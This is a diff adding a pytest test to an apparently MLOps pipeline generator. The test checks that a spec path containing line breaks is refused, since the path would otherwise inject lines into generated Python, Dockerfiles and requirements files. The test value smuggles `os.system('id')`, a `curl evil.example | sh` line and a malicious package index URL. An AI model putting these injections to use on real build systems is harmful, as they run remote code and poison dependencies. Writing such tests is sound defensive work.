@@ -275,3 +275,29 @@ def test_oracle_catches_raw_insertion(path: str, template: str, value: str, care
     careful_text = template.replace('"{}"', json.dumps(value)) if careful == "JSON" else template.format(careful)
     if careful is not None:  # the same value, escaped for its language, is accepted
         assert oracle.compare(base, {path: careful_text}, {marker: value}) == []
+
+
+@pytest.mark.parametrize("layout", ["file", "directory", "symlink"])
+def test_spec_path_with_a_line_break_is_refused(layout: str, tmp_path: Path) -> None:
+    """The spec path is written into every header comment: a newline in it would inject lines into Python,
+    Dockerfiles and requirements files. Refused, shown escaped on one line, nothing written."""
+    evil = "x\nimport os; os.system('id') #\nRUN curl evil.example | sh\n--index-url http:evil.example"
+    spec = "apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n  name: churn-model\nenvironments:\n  - name: dev\n"
+    if layout == "file":
+        target = tmp_path / f"{evil}.yaml"
+        target.write_text(spec)
+        argument = target.name
+    elif layout == "directory":
+        (tmp_path / evil).mkdir()
+        (tmp_path / evil / "spec.yaml").write_text(spec)
+        argument = evil
+    else:
+        (tmp_path / f"{evil}.yaml").write_text(spec)
+        (tmp_path / "spec.yaml").symlink_to(tmp_path / f"{evil}.yaml")
+        argument = "spec.yaml"
+    result = subprocess.run([sys.executable, "-m", "mlops_gen", "generate", argument, "-o", "out"], cwd=tmp_path,
+                            capture_output=True, text=True, timeout=60)
+    assert result.returncode == EXIT_USER_ERROR, result
+    assert result.stderr.count("\n") == 1 and "control or invisible characters" in result.stderr
+    assert "\\n" in result.stderr or layout == "symlink"
+    assert not (tmp_path / "out").exists()
